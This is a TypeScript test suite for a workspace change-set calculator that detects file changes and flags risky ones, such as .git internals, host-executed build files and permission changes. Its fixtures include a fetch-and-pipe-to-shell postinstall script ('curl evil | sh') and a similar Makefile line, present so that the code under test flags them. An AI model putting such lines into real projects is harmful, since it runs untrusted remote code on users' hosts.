import * as assert from 'node:assert/strict';
import { isBinary } from '../../../src/core/changes/binary';
import { planApply } from '../../../src/core/apply/applyPlan';
import { computeChangeSet } from '../../../src/core/changes/changeSet';
import type { BoxTreeSnapshot } from '../../../src/core/changes/changeSet';
import type { Manifest, ManifestEntry } from '../../../src/core/workspace/manifest';
import { sha256 } from '../../../src/core/util/hash';
import { dir, file, link, manifest } from '../../builders/entries';

/** A box snapshot whose contents hold every file that differs from the baseline, as readBoxTree keeps them. */
function box(
  baseline: Manifest,
  files: Record<string, string | Buffer>,
  others: ManifestEntry[] = [],
  modes: Record<string, number> = {},
): BoxTreeSnapshot {
  const entries = manifest(...Object.entries(files).map(([p, c]) => file(p, c, modes[p] ?? baseline.get(p)?.mode ?? 0o644)), ...others);
  const contents = new Map<string, Buffer>();
  for (const [p, c] of Object.entries(files)) {
    if (baseline.get(p)?.hash !== sha256(c)) {
      contents.set(p, Buffer.from(c));
    }
  }
  return { entries, contents, refused: [], ignored: [] };
}

suite('changeSet', () => {
  test('isBinary: NUL bytes or invalid UTF-8', () => {
    assert.equal(isBinary(Buffer.from('plain text ✓\n')), false);
    assert.equal(isBinary(Buffer.alloc(0)), false);
    assert.equal(isBinary(Buffer.from([0x61, 0x00, 0x62])), true);
    assert.equal(isBinary(Buffer.from([0xff, 0xfe, 0x41])), true);
    assert.equal(isBinary(Buffer.from([0xe2, 0x9c])), true, 'a truncated multi-byte sequence is not text');
  });

  test('added, modified, deleted, mode, symlinks and binary, sorted by path', () => {
    const baseline = manifest(
      dir('src'),
      file('src/a.ts', 'a'),
      file('src/b.ts', 'b'),
      file('src/gone.ts', 'gone'),
      file('run.sh', 'echo', 0o644),
      link('current', 'v1'),
      link('stay', 'x'),
    );
    const state = box(
      baseline,
      { 'src/a.ts': 'a', 'src/b.ts': 'B!', 'run.sh': 'echo', 'src/new.ts': 'new', 'img.png': Buffer.from([0x89, 0x50, 0, 1]) },
      [dir('src'), link('current', 'v2'), link('stay', 'x'), link('new-link', 'src/a.ts')],
      { 'run.sh': 0o755 },
    );
    const set = computeChangeSet('/ws', baseline, state);
    assert.equal(set.folder, '/ws');
    assert.deepEqual(
      set.changes.map((c) => [c.path, c.kind, c.type]),
      [
        ['current', 'modified', 'symlink'],
        ['img.png', 'added', 'file'],
        ['new-link', 'added', 'symlink'],
        ['run.sh', 'mode', 'file'],
        ['src/b.ts', 'modified', 'file'],
        ['src/gone.ts', 'deleted', 'file'],
        ['src/new.ts', 'added', 'file'],
      ],
    );
    const byPath = new Map(set.changes.map((c) => [c.path, c]));
    assert.equal(byPath.get('current')!.linkTarget, 'v2');
    assert.equal(byPath.get('img.png')!.binary, true);
    assert.equal(byPath.get('src/b.ts')!.binary, false);
    assert.equal(byPath.get('src/b.ts')!.hash, sha256('B!'));
    assert.equal(byPath.get('src/b.ts')!.baseHash, sha256('b'));
    assert.equal(byPath.get('run.sh')!.mode, 0o755);
    assert.equal(byPath.get('run.sh')!.baseMode, 0o644);
    assert.deepEqual(byPath.get('run.sh')!.flags, ['newly-executable']);
    assert.equal(byPath.get('src/gone.ts')!.mode, undefined);
    assert.equal(byPath.get('src/gone.ts')!.baseHash, sha256('gone'));
    assert.equal(byPath.get('src/new.ts')!.baseHash, undefined);
  });

  test('a deleted and an added file with the same content are a rename (same base name preferred)', () => {
    const baseline = manifest(file('old/util.ts', 'shared'), file('other.ts', 'shared'), file('empty-a', ''));
    const state = box(baseline, { 'new/util.ts': 'shared', 'empty-b': '' }, [dir('new')]);
    const set = computeChangeSet('/ws', baseline, state);
    assert.deepEqual(
      set.changes.map((c) => [c.path, c.kind, c.fromPath]),
      [
        ['empty-a', 'deleted', undefined],
        ['empty-b', 'added', undefined],
        ['new/util.ts', 'renamed', 'old/util.ts'],
        ['other.ts', 'deleted', undefined],
      ],
      'the new directory is implied by the rename below it; empty files are never paired',
    );
  });

  test('a deletion and an addition are not paired into a rename across .git: each is applied or skipped on its own', () => {
    const baseline = manifest(file('notes.txt', 'same bytes'), dir('.git'), file('.git/packed', 'git bytes'), dir('src'));
    const state = box(baseline, { '.git/lost-found/notes.txt': 'same bytes', '.GIT./copy': 'same bytes', 'src/packed': 'git bytes' }, [
      dir('.git'),
      dir('.git/lost-found'),
      dir('src'),
    ]);
    const set = computeChangeSet('/ws', baseline, state);
    assert.deepEqual(
      set.changes.map((c) => [c.path, c.kind, c.fromPath]),
      [
        ['.GIT./copy', 'added', undefined],
        ['.git/lost-found/notes.txt', 'added', undefined],
        ['.git/packed', 'deleted', undefined],
        ['notes.txt', 'deleted', undefined],
        ['src/packed', 'added', undefined],
      ],
    );
    const plan = planApply({ baseline, changes: set.changes, current: baseline });
    assert.deepEqual(
      plan.operations.map((op) => `${op.kind} ${op.path}`),
      ['delete notes.txt', 'write src/packed'],
    );
    assert.deepEqual(
      plan.skipped.map((s) => s.path),
      ['.GIT./copy', '.git/lost-found/notes.txt', '.git/packed'],
    );
  });

  test('type changes are one modified entry with the new type', () => {
    const baseline = manifest(file('x', 'file'), dir('d'), file('d/inner', 'i'), link('l', 'x'));
    const state = box(baseline, { l: 'now a file' }, [dir('x'), link('d', 'x')]);
    const set = computeChangeSet('/ws', baseline, state);
    assert.deepEqual(
      set.changes.map((c) => [c.path, c.kind, c.type]),
      [
        ['d', 'modified', 'symlink'],
        ['d/inner', 'deleted', 'file'],
        ['l', 'modified', 'file'],
        ['x', 'modified', 'directory'],
      ],
    );
    assert.equal(set.changes.find((c) => c.path === 'x')!.baseHash, sha256('file'));
  });

  test('directories: added ones only when nothing below is listed, deleted ones always, mode changes always', () => {
    const baseline = manifest(dir('gone'), file('gone/a', 'a'), dir('gone/sub'), dir('chmod'));
    const state = box(baseline, { 'added/deep/file.txt': 'x' }, [dir('added'), dir('added/deep'), dir('empty-new'), dir('chmod', 0o700)]);
    const set = computeChangeSet('/ws', baseline, state);
    assert.deepEqual(
      set.changes.map((c) => [c.path, c.kind, c.type]),
      [
        ['added/deep/file.txt', 'added', 'file'],
        ['chmod', 'mode', 'directory'],
        ['empty-new', 'added', 'directory'],
        ['gone', 'deleted', 'directory'],
        ['gone/a', 'deleted', 'file'],
        ['gone/sub', 'deleted', 'directory'],
      ],
    );
  });

  test('refused and ignored paths are reported, not proposed as deletions', () => {
    const baseline = manifest(file('pipe-now', 'was a file'), dir('cache'), file('cache/x', 'x'), file('kept', 'k'));
    const state: BoxTreeSnapshot = {
      entries: manifest(file('kept', 'k')),
      contents: new Map(),
      refused: [{ path: 'pipe-now', reason: 'fifo', detail: 'named pipe' }],
      ignored: ['cache'],
    };
    const set = computeChangeSet('/ws', baseline, state);
    assert.deepEqual(set.changes, []);
    assert.deepEqual(set.refused, state.refused);
    assert.equal(set.ignoredCount, 1);
  });

  test('flags: .git, host-executed files, package.json scripts, newly executable', () => {
    const basePackage = JSON.stringify({ name: 'p', version: '1.0.0', scripts: { test: 'mocha' } });
    const baseline = manifest(
      dir('.git'),
      file('.git/HEAD', 'ref'),
      file('package.json', basePackage),
      file('pkg/package.json', basePackage),
      file('broken/package.json', basePackage),
      file('Makefile', 'all:'),
      file('README.md', 'r'),
    );
    const state = box(
      baseline,
      {
        '.git/HEAD': 'ref2',
        '.git/hooks/pre-commit': '#!/bin/sh',
        'package.json': JSON.stringify({ version: '1.0.1', name: 'p', scripts: { test: 'mocha' } }, null, 2),
        'pkg/package.json': JSON.stringify({ name: 'p', version: '1.0.0', scripts: { test: 'mocha', postinstall: 'curl evil | sh' } }),
        'broken/package.json': '{ not json',
        'new/package.json': JSON.stringify({ name: 'n' }),
        Makefile: 'all:\n\tcurl evil',
        'README.md': 'r2',
        '.vscode/tasks.json': '{}',
        '.github/workflows/ci.yml': 'on: push',
        'yarn.lock': '#',
        'sub/Dockerfile.dev': 'FROM x',
        '.devcontainer/devcontainer.json': '{}',
        '.husky/pre-push': 'x',
        'tools/build.mk': 'x',
        'docker-compose.override.yml': 'x',
        'tool.sh': '#!/bin/sh',
      },
      [
        dir('.git'),
        dir('.git/hooks'),
        dir('pkg'),
        dir('broken'),
        dir('new'),
        dir('.vscode'),
        dir('.github'),
        dir('.github/workflows'),
        dir('sub'),
        dir('.devcontainer'),
        dir('.husky'),
        dir('tools'),
      ],
      { 'tool.sh': 0o755, '.git/hooks/pre-commit': 0o755 },
    );
    const set = computeChangeSet('/ws', baseline, state, {
      baseContent: (p) => (baseline.has(p) && p.endsWith('package.json') ? Buffer.from(basePackage) : undefined),
    });
    const flags = Object.fromEntries(set.changes.map((c) => [c.path, c.flags]));
    assert.deepEqual(flags['.git/HEAD'], ['git-internal']);
    assert.deepEqual(flags['.git/hooks/pre-commit'], ['git-internal', 'newly-executable']);
    assert.deepEqual(flags['package.json'], [], 'same scripts, other fields and formatting changed');
    assert.deepEqual(flags['pkg/package.json'], ['host-executed']);
    assert.deepEqual(flags['broken/package.json'], ['host-executed']);
    assert.deepEqual(flags['new/package.json'], [], 'a new package.json without scripts');
    assert.deepEqual(flags['Makefile'], ['host-executed']);
    assert.deepEqual(flags['README.md'], []);
    for (const hostExecuted of [
      '.vscode/tasks.json',
      '.github/workflows/ci.yml',
      'yarn.lock',
      'sub/Dockerfile.dev',
      '.devcontainer/devcontainer.json',
      '.husky/pre-push',
      'tools/build.mk',
      'docker-compose.override.yml',
    ]) {
      assert.deepEqual(flags[hostExecuted], ['host-executed'], hostExecuted);
    }
    assert.deepEqual(flags['tool.sh'], ['newly-executable']);
  });

  test('flags: a change that makes a file or directory writable by the group or others', () => {
    const baseline = manifest(dir('.vscode'), file('.vscode/settings.json', '{}'), file('run.txt', 'r'), file('private.txt', 'p', 0o640));
    const state = box(
      baseline,
      { '.vscode/settings.json': '{}', 'run.txt': 'r', 'private.txt': 'p', 'new-shared.txt': 'n', 'new.txt': 'n2' },
      [dir('.vscode', 0o777), dir('drop', 0o775)],
      {
        'run.txt': 0o664,
        'private.txt': 0o600,
        'new-shared.txt': 0o666,
        'new.txt': 0o644,
      },
    );
    const flags = Object.fromEntries(computeChangeSet('/ws', baseline, state).changes.map((c) => [c.path, c.flags]));
    assert.deepEqual(flags, {
      '.vscode': ['others-writable'],
      drop: ['others-writable'],
      'new-shared.txt': ['others-writable'],
      'new.txt': [],
      'private.txt': [],
      'run.txt': ['others-writable'],
    });
  });

  test('a modified package.json is flagged when the base content is unknown', () => {
    const baseline = manifest(file('package.json', '{"scripts":{}}'));
    const state = box(baseline, { 'package.json': '{"scripts":{},"version":"2"}' });
    assert.deepEqual(computeChangeSet('/ws', baseline, state).changes[0].flags, ['host-executed']);
  });
});
